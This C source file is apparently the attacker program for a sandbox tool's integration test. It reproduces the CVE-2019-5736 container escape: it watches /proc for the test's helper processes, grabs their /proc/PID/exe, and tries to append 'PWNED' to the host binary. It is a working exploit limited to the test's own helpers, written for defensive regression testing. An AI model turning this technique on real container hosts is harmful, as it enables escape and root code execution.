/* The attacker of test/integration/helper-exe.test.ts (CVE-2019-5736), run
 * as a container's init. It watches /proc for processes of tsbox-helper
 * whose command line holds MARKER (the test's state root: only the helpers
 * of this test, never another tsbox's) and opens /proc/PID/exe of each, as
 * a process with CAP_SYS_PTRACE can, to reach the file the helper runs
 * from. It tries to open that for writing at once, and keeps the fd to try
 * again while it runs: once no helper runs from a file on disk, the kernel
 * no longer refuses (ETXTBSY), and appending to it changes what root runs
 * next. (It appends, so that the test can undo it.)
 *
 * Output, one line per event (stdout, the container's log):
 *   ready
 *   denied PID ERRNO                      /proc/PID/exe could not be opened
 *                                         (once; tried again until it execs)
 *   caught PID MODE DEV:INO TARGET write=ERRNO   it could; MODE is run or exec,
 *                                         DEV:INO the file's st_dev and st_ino
 *   later PID open=ERRNO write=ERRNO      a later try through the kept fd,
 *                                         printed when the answer changes
 *   WROTE PID                             the append went through
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* by pid: 0 not looked at, DENIED its exe could not be opened yet (tried
 * again until it execs: it may drop privileges and become dumpable first),
 * DONE caught */
enum { DENIED = 1, DONE = 2 };
static unsigned char seen[1 << 22];

struct kept {
  int fd, pid, last_open, last_write;
};
static struct kept kept[64];
static int n_kept;

/* argv[1] of PID (run, exec) if its command line holds MARKER, else NULL */
static const char *helper_mode(int pid, const char *marker, char *buf, size_t len)
{
  char path[64];
  ssize_t n;
  int fd;
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return NULL;
  n = read(fd, buf, len - 1);
  close(fd);
  if (n <= 0)
    return NULL;
  buf[n] = '\0';
  if (strstr(buf, "tsbox-helper") == NULL || memmem(buf, (size_t) n, marker, strlen(marker)) == NULL)
    return NULL;
  return buf + strlen(buf) + 1;
}

static void grab(int pid, const char *marker)
{
  char path[64], target[256], cmdline[8192];
  const char *mode = helper_mode(pid, marker, cmdline, sizeof cmdline);
  struct stat st;
  ssize_t n;
  int fd, w, werr;

  if (mode == NULL)
    return; /* not ours, or exec'd already: looked at again, it might become ours */
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    if (seen[pid] != DENIED)
      printf("denied %d %d\n", pid, errno);
    seen[pid] = DENIED;
    return;
  }
  seen[pid] = DONE;
  n = readlink(path, target, sizeof target - 1);
  target[n < 0 ? 0 : n] = '\0';
  fstat(fd, &st);
  w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
  werr = w < 0 ? errno : 0;
  if (w >= 0)
    close(w);
  printf("caught %d %s %lu:%lu %s write=%d\n", pid, mode, (unsigned long) st.st_dev, (unsigned long) st.st_ino, target, werr);
  if (n_kept < 64)
    kept[n_kept++] = (struct kept){ fd, pid, -1, -1 };
  else
    close(fd);
}

/* Through each kept fd: open the file for appending, and append. */
static void try_kept(void)
{
  for (int i = 0; i < n_kept; i++) {
    char path[64];
    int fd, oerr = 0, werr = 0;
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i].fd);
    fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) {
      oerr = errno;
    } else {
      if (write(fd, "PWNED\n", 6) != 6)
        werr = errno ? errno : -1;
      close(fd);
      if (werr == 0) {
        printf("WROTE %d\n", kept[i].pid);
        werr = -2;
      }
    }
    if (oerr != kept[i].last_open || werr != kept[i].last_write)
      printf("later %d open=%d write=%d\n", kept[i].pid, oerr, werr);
    kept[i].last_open = oerr;
    kept[i].last_write = werr;
  }
}

int main(int argc, char **argv)
{
  struct timespec last = { 0 }, now;
  if (argc != 2) {
    fprintf(stderr, "usage: exe-grab MARKER\n");
    return 2;
  }
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ready\n");
  for (;;) {
    DIR *d = opendir("/proc");
    struct dirent *de;
    if (d == NULL)
      return 1;
    while ((de = readdir(d)) != NULL) {
      int pid = atoi(de->d_name);
      if (pid > 1 && pid < (int) sizeof seen && pid != getpid() && seen[pid] != DONE)
        grab(pid, argv[1]);
    }
    closedir(d);
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (now.tv_sec != last.tv_sec) {
      try_kept();
      last = now;
    }
  }
}
